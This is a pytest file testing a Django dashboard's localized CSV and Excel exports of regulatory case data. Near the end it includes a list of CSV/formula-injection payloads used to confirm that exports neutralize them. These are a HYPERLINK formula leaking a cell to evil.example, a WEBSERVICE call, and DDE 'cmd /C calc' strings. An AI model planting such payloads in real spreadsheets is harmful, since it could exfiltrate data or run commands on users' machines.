"""The dashboard's downloads read back as a user reads them: labels, not codes; sheet tabs in the
user's language; numbers as numbers."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from kpi.exports import SHEET_TITLES, sheet_title

QUERY = "?start=2026-03-01&end=2026-06-30"


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel(dt.datetime(2026, 6, 1, 10, 0), tick=False):
        yield


def _client(user, language="zh-hans"):
    c = Client(headers={"accept-language": language})
    c.force_login(user)
    return c


def _case_row(rows, reference):
    return next(r for r in rows if r[0] == reference)


def test_the_case_list_csv_has_labels_not_codes(kpi_cases, users):
    response = _client(users.supervisor).get("/dashboard/export.csv" + QUERY + "&table=case_list")
    assert response.streaming  # still streamed, row by row
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    # Class II, passive, first registration, standard pathway, under review.
    row = _case_row(rows, kpi_cases.b.reference)
    assert row[4:9] == ["第二类", "无源医疗器械", "首次注册", "常规", "审评"], row
    decided = _case_row(rows, kpi_cases.a.reference)
    assert decided[8] not in ("approved", "refused", "review")


def test_the_case_list_in_english_for_an_english_user(kpi_cases, users):
    users.supervisor.language = "en"
    users.supervisor.save(update_fields=["language"])
    response = _client(users.supervisor, "en").get("/dashboard/export.csv" + QUERY + "&table=case_list")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert _case_row(rows, kpi_cases.b.reference)[4:8] == [
        "Class II", "Passive device", "First registration", "Standard"]


def test_excel_sheets_have_titles_labels_and_numbers(kpi_cases, users):
    client = _client(users.supervisor)
    wb = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx" + QUERY).content), read_only=True)
    assert wb.sheetnames == ["统计期间和筛选条件", "各环节", "案件层面指标", "月度趋势", "工作量", "申请人一方用时",
                             "已超期和即将到期"]
    rows = list(wb["各环节"].iter_rows(values_only=True))
    review = next(r for r in rows[2:] if r[0] == "技术审评")
    # Target and statutory limit (Chongqing pack, Class II technical review: 40 and 60 WD), as numbers.
    assert (review[8], review[9]) == (40, 60)
    # What the on-time rates are over: all five have both limits.
    assert rows[1][15:17] == ("有目标时限的办结件数", "有法定时限的办结件数") and review[15:17] == (5, 5)

    wb = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx" + QUERY + "&table=case_list").content),
                       read_only=True)
    assert wb.sheetnames == ["统计期间和筛选条件", "案件清单"]
    rows = list(wb["案件清单"].iter_rows(values_only=True))
    assert _case_row(rows[2:], kpi_cases.b.reference)[4:8] == ("第二类", "无源医疗器械", "首次注册", "常规")


def test_every_sheet_title_is_valid_in_excel(settings):
    from django.utils import translation

    for language in ("zh-hans", "en"):
        with translation.override(language):
            for name in SHEET_TITLES:
                title = sheet_title(name)
                assert title and len(title) <= 31 and not set(title) & set("[]:*?/\\"), title


def test_each_download_has_its_own_file_name_and_one_link_name(kpi_cases, users):
    """The case list's workbook was kpi-cases-….xlsx and the case-level figures kpi-cases-….csv;
    the case list's links were "Excel（案件清单）" and "CSV：案件"."""
    client = _client(users.supervisor)
    names = {}
    for url in ("export.xlsx" + QUERY, "export.xlsx" + QUERY + "&table=case_list",
                *(f"export.csv{QUERY}&table={t}" for t in ("stages", "cases", "trend", "workload", "urgent",
                                                          "applicant", "case_list"))):
        disposition = client.get("/dashboard/" + url)["Content-Disposition"]
        names[url] = disposition.split('filename="')[1].rstrip('"')
    assert len(set(names.values())) == len(names), names
    assert names["export.xlsx" + QUERY + "&table=case_list"] == "kpi-case-list-20260301-20260630.xlsx"
    assert names[f"export.csv{QUERY}&table=case_list"] == "kpi-case-list-20260301-20260630.csv"
    assert names[f"export.csv{QUERY}&table=cases"] == "kpi-case-figures-20260301-20260630.csv"
    page = client.get("/dashboard/" + QUERY).content.decode()
    assert "Excel（案件清单）" in page and "CSV：案件清单" in page


def test_the_overdue_download_has_the_working_days_shown_on_the_page(kpi_cases, users):
    client = _client(users.supervisor)
    body = client.get("/dashboard/export.csv" + QUERY + "&table=urgent").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][-2:] == ["超期工作日", "剩余工作日"]
    page = client.get("/dashboard/" + QUERY).content.decode()
    # Each case's "已超期 N 个工作日" on the page is the number in the download.
    import re

    urgent = page[page.index('id="urgent"'):]
    shown = re.findall(r'<tr><th scope="row" class="text"><a href="[^"]+">([^<]+)</a>(?:(?!</tr>).)*?'
                       r'已超期 (\d+) 个工作日', urgent, re.S)
    assert shown
    late = {r[0]: r[-2] for r in rows[1:]}
    for reference, n in shown:
        assert late[reference] == n


def test_the_workbook_says_what_it_is_for(kpi_cases, users):
    client = _client(users.supervisor)
    wb = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx" + QUERY + "&device_class=II").content),
                       read_only=True)
    rows = {r[0]: r[1] for r in list(wb["统计期间和筛选条件"].iter_rows(values_only=True))[2:]}
    assert rows["统计期间起"].date() == dt.date(2026, 3, 1) and rows["统计期间止"].date() == dt.date(2026, 6, 30)
    assert rows["管理类别"] == "第二类" and rows["产品类型"] == "全部" and rows["政策包"] == "全部"
    assert rows["在办、已超目标时限和已超法定时限的统计日"].date() == dt.date(2026, 6, 1)


def test_english_case_list_headings_start_with_a_capital(kpi_cases, users):
    users.supervisor.language = "en"
    users.supervisor.save(update_fields=["language"])
    response = _client(users.supervisor, "en").get("/dashboard/export.csv" + QUERY + "&table=case_list")
    headings = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert headings[4:8] == ["Device class", "Category", "Application type", "Pathway"]
    assert all(h[0].isupper() for h in headings), headings


# what an enterprise types reaches the supervisor's spreadsheet as text.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/")', "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_product_name_that_looks_like_a_formula_is_text_in_csv_and_xlsx(payload, reviewing, users):
    app = reviewing(on=dt.date(2026, 3, 2), product_name="placeholder")
    # Single-line fields refuse control characters at validation; an old row or an import may still
    # hold one, so the export is tested with the raw value in the database.
    type(app).objects.filter(pk=app.pk).update(product_name=payload)
    client = _client(users.supervisor)
    response = client.get("/dashboard/export.csv" + QUERY + "&table=case_list")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert _case_row(rows, app.reference)[1] == "'" + payload

    content = client.get("/dashboard/export.xlsx" + QUERY + "&table=case_list").content
    wb = load_workbook(io.BytesIO(content))  # not read-only: the cell's type is what is tested
    ws = wb["案件清单"]
    cell = next(r[1] for r in ws.iter_rows(min_row=3) if r[0].value == app.reference)
    assert cell.data_type == "s" and cell.value == payload, (cell.data_type, cell.value)


def test_numbers_and_plain_text_are_unchanged_in_csv():
    from kpi.exports import csv_safe

    assert [csv_safe(v) for v in (-3, 4.5, "医用口罩", "A-1", None)] == [-3, 4.5, "医用口罩", "A-1", None]
